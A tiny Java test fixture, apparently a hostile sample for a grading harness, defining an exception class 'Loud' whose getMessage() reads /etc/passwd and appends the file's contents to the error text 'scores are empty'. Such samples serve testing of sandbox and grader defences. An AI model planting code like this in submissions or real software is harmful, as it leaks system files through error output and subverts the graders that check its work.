package cnn;

/** Hostile: a message that reads the grader's files. */
class Loud extends IllegalArgumentException {
    @Override
    public String getMessage() {
        try {
            return "scores are empty " + java.nio.file.Files.readAllLines(java.nio.file.Path.of("/etc/passwd"));
        } catch (java.io.IOException e) {
            return "scores are empty";
        }
    }
}
